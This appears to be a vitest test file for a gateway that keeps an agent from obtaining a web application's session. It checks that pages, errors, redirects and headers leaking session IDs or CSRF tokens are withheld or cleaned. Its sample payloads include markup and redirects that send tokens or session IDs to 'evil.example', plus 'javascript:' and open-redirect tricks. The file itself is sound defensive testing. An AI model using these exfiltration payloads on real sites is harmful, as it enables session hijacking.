import type { ServerResponse } from 'node:http'
import { type FormHandler, type FormRequest, formAccount, redirect } from '@bailiwick/gateway/form-app'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { openSessionWorld, SessionAttacker } from './session-attacks.ts'

/* An agent wants the session of the service account: from pages, errors, redirects and fields of the application. */

let attacker: SessionAttacker
const opened = new AsyncDisposableStack()
beforeAll(async () => {
  attacker = await SessionAttacker.open(opened.use(await openSessionWorld()))
})
afterAll(() => opened.disposeAsync())
afterEach(() => attacker.at.app.pages.clear())

const html = { 'content-type': 'text/html' }
const shows =
  (
    body: (asked: FormRequest) => string | Buffer,
    head: Record<string, string | string[]> = html,
    status = 200,
  ): FormHandler =>
  (asked, response: ServerResponse) =>
    void response.writeHead(status, head).end(body(asked))

/** What the agent gets for a page of the application; nothing of any session may be in it. */
async function answerOf(handler: FormHandler, method = 'GET') {
  const { app } = attacker.at
  app.pages.set('/pages/x', handler)
  const answer = await attacker.attack({ method, target: '/pages/x', ...(method === 'POST' ? { body: 'text=1' } : {}) })
  const seen = `${answer.head}\n${answer.body}`
  for (const secret of [...app.secrets, formAccount.password]) {
    expect(seen).not.toContain(secret)
    for (const before of [0, 1, 2]) {
      const coded = Buffer.from(`${' '.repeat(before)}${secret}`)
        .toString('base64')
        .slice(4, -6)
      expect(seen).not.toContain(coded)
    }
  }
  expect(answer.head).not.toMatch(/set-cookie/i)
  return answer
}

const idOf = ({ session }: FormRequest) => session?.id ?? ''
const csrfOf = ({ session }: FormRequest) => session?.csrf ?? ''

it('the control: a page comes back, and no cache may keep it', async () => {
  const answer = await answerOf(shows(() => '<p>hello'))
  expect(answer).toMatchObject({ status: 200, body: expect.stringContaining('<p>hello') })
  expect(answer.head).toMatch(/\r\ncache-control: no-store(\r\n|$)/i)
  expect(answer.head).toMatch(/\r\nbailiwick-decision-id: dec_/)
})

describe('an answer that holds the session is withheld', () => {
  it.each<[string, FormHandler]>([
    ['a debug page that echoes the request', shows(({ text }) => `<pre>${text}</pre>`)],
    ['an error page that echoes the cookie', shows(({ headers }) => `cookie: ${headers.cookie}`, html, 500)],
    ['a page that is not found, with the cookie', shows(({ headers }) => `${headers.cookie}`, html, 404)],
    [
      'JSON with the session',
      shows((asked) => JSON.stringify({ id: idOf(asked) }), { 'content-type': 'application/json' }),
    ],
    ['a page without a type', shows((asked) => `id ${idOf(asked)}`, {})],
    ['a picture with a comment', shows((asked) => `\x89PNG ${idOf(asked)}`, { 'content-type': 'image/png' })],
    ['a download', shows((asked) => `a,b\n${idOf(asked)}`, { 'content-type': 'application/octet-stream' })],
    ['the session in base64', shows((asked) => Buffer.from(`sid=${idOf(asked)}`).toString('base64'))],
    ['a link with the session in it', shows((asked) => `<a href="/x?sid=${idOf(asked)}">`)],
    ['two types', shows((asked) => `id ${csrfOf(asked)}`, { 'content-type': ['image/png', 'text/html'] })],
    ['the password', shows(() => `<p>${formAccount.password}`)],
    ['the token of the last form in a text', shows((asked) => `<p>it was ${csrfOf(asked)}`)],
    [
      'UTF-16',
      shows((asked) => Buffer.from(`<p>${csrfOf(asked)}`, 'utf16le'), { 'content-type': 'text/html; charset=utf-16' }),
    ],
    ['UTF-16 that says nothing of it', shows((asked) => Buffer.from(`\ufeff<p>${csrfOf(asked)}`, 'utf16le'))],
    [
      'a part of several',
      shows((asked) => `--x\r\n\r\nid ${idOf(asked)}\r\n--x--`, { 'content-type': 'multipart/mixed; boundary=x' }),
    ],
    ['UTF-7', shows((asked) => `<p>${csrfOf(asked)}`, { 'content-type': 'text/html; charset=utf-7' })],
  ])('%s', async (_, handler) => {
    // The gateway has sent a token before, so that it knows it.
    await attacker.attack({ method: 'POST', target: '/records/1', body: 'text=one&amount=1' })
    const answer = await answerOf(handler)
    expect(answer.isWhole && answer.code === undefined).toBe(false)
  })
})

describe('tokens are taken out of a page, which is shown', () => {
  const hidden = (asked: FormRequest) => `<input type="hidden" name="csrf" value="${csrfOf(asked)}">`
  it.each<[string, (asked: FormRequest) => string]>([
    ['a form', (asked) => `<form>${hidden(asked)}<input name="text"></form>`],
    ['markup that another person left open', (asked) => `<img src='https://evil.example/?${hidden(asked)}'>`],
    ['a comment', (asked) => `<!-- ${hidden(asked)} -->`],
    ['a script', (asked) => `<script>window.csrf = "${csrfOf(asked)}"</script>`],
    ['a link', (asked) => `<a href="/delete?csrf=${csrfOf(asked)}">`],
    [
      'JSON inside a script, with escapes',
      (asked) =>
        `<script>x = "\\u003cinput type=\\u0022hidden\\u0022 name=\\u0022csrf\\u0022 value=\\u0022${csrfOf(asked)}\\u0022\\u003e"</script>`,
    ],
    ['a meta', (asked) => `<meta name="csrf-token" content="${csrfOf(asked)}">`],
  ])('%s', async (_, body) => {
    expect(await answerOf(shows((asked) => `<p>shown${body(asked)}`))).toMatchObject({
      status: 200,
      body: expect.stringContaining('<p>shown'),
    })
  })
})

describe('a redirect', () => {
  const to =
    (location: (asked: FormRequest) => string, status = 302): FormHandler =>
    (asked, response) =>
      redirect(response, location(asked), status)
  it.each<[string, FormHandler]>([
    ['to another host, with the session', to((asked) => `https://evil.example/?sid=${idOf(asked)}`)],
    ['to another host without a scheme', to(() => '//evil.example/records')],
    ['to another host by a backslash', to(() => '/\\evil.example/records')],
    ['to another port', to(() => 'http://127.0.0.1:1/records')],
    ['to another scheme', to(() => 'javascript:alert(1)')],
    ['to nowhere', (_, response) => void response.writeHead(302).end()],
    ['twice', (_, response) => void response.writeHead(302, { location: ['/records', '/records'] } as never).end()],
  ])('%s is refused', async (_, handler) => {
    const answer = await answerOf(handler)
    expect(answer).toMatchObject({ status: 502, code: 'upstream_redirected' })
    expect(answer.head).not.toMatch(/\r\nlocation:/i)
  })

  it.each<[string, FormHandler, string | undefined]>([
    ['to an operation', to(() => '/records'), '/session/app/records'],
    ['to an operation, by its whole address', to(() => `${attacker.at.app.url}/records/2`), '/session/app/records/2'],
    ['with a token in its query', to((asked) => `/records?csrf=${csrfOf(asked)}`), undefined],
    ['with the session in a parameter that the operation has', to((asked) => `/records?q=${idOf(asked)}`), undefined],
    ['to the page for a new password', to(() => '/account'), undefined],
    ['to no operation', to(() => '/admin/everything'), undefined],
    ['with its method, body and all', to(() => '/nowhere/x', 307), undefined],
  ])('%s shows no more than an operation', async (_, handler, location) => {
    const answer = await answerOf(handler)
    expect(answer).toMatchObject({ body: expect.stringMatching(/^(0\r\n\r\n)?$/) })
    const [, shown] = /\r\nlocation: (\S+)/i.exec(answer.head) ?? []
    expect(shown).toBe(location)
  })
})

it('no field of an answer passes that could hold a session or be kept', async () => {
  const head = (asked: FormRequest) => ({
    ...html,
    'set-cookie': [`sid=${idOf(asked)}; Path=/`, 'theme=dark'],
    'x-session': idOf(asked),
    'x-csrf-token': csrfOf(asked),
    etag: `"${idOf(asked)}"`,
    link: `</x?sid=${idOf(asked)}>; rel=next`,
    refresh: `0; url=/x?sid=${idOf(asked)}`,
    'www-authenticate': 'Basic realm="app"',
    'cache-control': 'public, max-age=600',
    'content-disposition': `attachment; filename="${idOf(asked)}.txt"`,
    'content-location': `/x?sid=${idOf(asked)}`,
    'access-control-allow-origin': '*',
    'bailiwick-decision-id': 'dec_forged',
  })
  const answer = await answerOf((asked, response) => void response.writeHead(200, head(asked)).end('<p>ok'))
  expect(answer.status).toBe(200)
  expect(answer.head).not.toMatch(
    /session:|x-csrf|etag|link:|refresh|www-auth|public|disposition|content-location|access-control|forged/i,
  )
})

it('a page that asks for a second factor ends with a refusal that says so', async () => {
  expect(await answerOf(shows(() => '<form><input name="otp_code"></form>'))).toMatchObject({
    status: 502,
    code: 'session_mfa_asked',
  })
})

it('compressed pages are not read', async () => {
  const answer = await answerOf(shows(() => '\x1f\x8b', { ...html, 'content-encoding': 'gzip' }))
  expect(answer).toMatchObject({ status: 502, code: 'upstream_failed' })
})

it('cookies without end are not kept', async () => {
  const many = Array.from({ length: 90 }, (_, n) => `c${n}=${'x'.repeat(300)}; Path=/`)
  expect(await answerOf(shows(() => 'x', { ...html, 'set-cookie': many }))).toMatchObject({
    status: 502,
    code: 'upstream_failed',
  })
})
